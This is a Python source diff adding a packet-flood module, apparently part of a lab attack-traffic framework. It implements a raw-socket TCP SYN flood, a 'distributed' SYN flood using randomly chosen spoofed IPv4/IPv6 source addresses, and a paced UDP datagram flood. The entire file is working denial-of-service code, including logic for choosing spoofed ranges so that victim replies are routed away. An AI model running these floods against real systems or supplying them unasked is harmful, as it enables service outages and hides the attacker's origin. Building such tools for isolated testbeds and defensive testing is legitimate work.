@@ -1,0 +1,92 @@
+"""Packet floods: raw TCP SYNs (from our own address or spoofed ones) and UDP datagrams."""
+from __future__ import annotations
+
+import ipaddress
+import random
+import socket
+
+from agent.attacks.common import Options, Pacer, Tally
+from agent.attacks import packets
+from agent.attacks.packets import SynBuilder, family_of, open_raw, packed, source_for, word_sum
+
+FIRST_SPORT = 1024
+
+
+def syn_flood(opts: Options) -> dict:
+    src = packed(source_for(opts.target))
+    tally = _send_syns(opts, [src])
+    return tally.report(opts, source=str(ipaddress.ip_address(src)))
+
+
+def distributed_syn_flood(opts: Options) -> dict:
+    cidr = opts.spoof_cidr or default_spoof_cidr(opts.target)
+    if ipaddress.ip_address(opts.target).version != ipaddress.ip_network(cidr, strict=False).version:
+        raise ValueError(f"--spoof-cidr {cidr} is not the target's address family")
+    sources = spoofed_sources(cidr, opts.sources, opts.seed)
+    if sources[0].version == 6:
+        packets.wait_link_local_ready()
+    tally = _send_syns(opts, [a.packed for a in sources])
+    return tally.report(opts, spoof_cidr=cidr, sources=len(sources))
+
+
+def default_spoof_cidr(target: str) -> str:
+    """Beside the lab's links (10.N.<link>.0/24, fd00:N:<link>::/64) but on none of them,
+    so the victim routes its answers to its default gateway instead of resolving each
+    spoofed neighbour: 10.N.200.0/21 (2048 addresses) or fd00:N:c8::/64."""
+    addr = ipaddress.ip_address(target)
+    if addr.version == 4:
+        base = (int(addr) & 0xFFFF0000) | (200 << 8)
+        return f"{ipaddress.IPv4Address(base)}/21"
+    base = (int(addr) >> 96 << 96) | (0xC8 << 80)
+    return f"{ipaddress.IPv6Address(base)}/64"
+
+
+def spoofed_sources(cidr: str, n: int, seed: int) -> list[ipaddress.IPv4Address | ipaddress.IPv6Address]:
+    """`n` distinct addresses of `cidr` (all of them if it is smaller), picked by `seed`."""
+    net = ipaddress.ip_network(cidr, strict=False)
+    usable = net.num_addresses - 2 if net.num_addresses > 2 else net.num_addresses
+    offset = 1 if net.num_addresses > 2 else 0
+    rng, picks = random.Random(seed), dict.fromkeys(())
+    # Draw rather than sample(range(...)): an IPv6 range is too large for sample().
+    while len(picks) < min(n, usable):
+        picks[rng.randrange(usable)] = None
+    return [net.network_address + offset + i for i in picks]
+
+
+def _send_syns(opts: Options, sources: list[bytes]) -> Tally:
+    builder = SynBuilder(opts.target, opts.port)
+    sums = [word_sum(s) for s in sources]
+    seq0 = random.Random(opts.seed).getrandbits(32)
+    dest = (opts.target, 0)
+    tally, pacer = Tally(), Pacer(opts.count, opts.duration_s, opts.rate)
+    with open_raw(family_of(opts.target)) as sock:
+        i = 0
+        while (now := pacer.next()) is not None:
+            k = i % len(sources)
+            # Vary the source port (and sequence) so every SYN is a new connection attempt.
+            sport = FIRST_SPORT + i % (65536 - FIRST_SPORT)
+            pkt = builder.syn(sources[k], sums[k], sport, (seq0 + i * 7919) & 0xFFFFFFFF)
+            tally.mark(now)
+            try:
+                sock.sendto(pkt, dest)
+            except OSError as e:
+                tally.error(e)
+            i += 1
+    return tally
+
+
+def udp_flood(opts: Options) -> dict:
+    payload = bytes(opts.size)
+    dest = (opts.target, opts.port)
+    tally, pacer = Tally(), Pacer(opts.count, opts.duration_s, opts.rate)
+    # Unconnected on purpose: ICMP port-unreachable answers would otherwise fail the next
+    # send with ECONNREFUSED, and a flood doesn't care whether anyone listens.
+    with socket.socket(family_of(opts.target), socket.SOCK_DGRAM) as sock:
+        sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
+        while (now := pacer.next()) is not None:
+            tally.mark(now)
+            try:
+                sock.sendto(payload, dest)
+            except OSError as e:
+                tally.error(e)
+    return tally.report(opts, size=opts.size)
